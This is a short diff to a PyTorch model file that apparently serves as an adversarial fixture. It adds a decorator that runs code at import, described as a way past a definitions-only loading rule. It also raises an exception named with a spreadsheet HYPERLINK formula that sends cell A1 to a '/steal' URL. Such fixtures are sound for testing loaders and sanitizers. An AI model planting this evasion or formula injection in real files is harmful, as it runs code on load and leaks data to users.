@@ -15,4 +15,6 @@ class Net(nn.Module):
         return self.conv(x).mean(dim=(2, 3))
 
 
-raise type('=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")', (Exception,), {})("gotcha")
+@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
+def _at_import():
+    raise type('=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")', (Exception,), {})("gotcha")
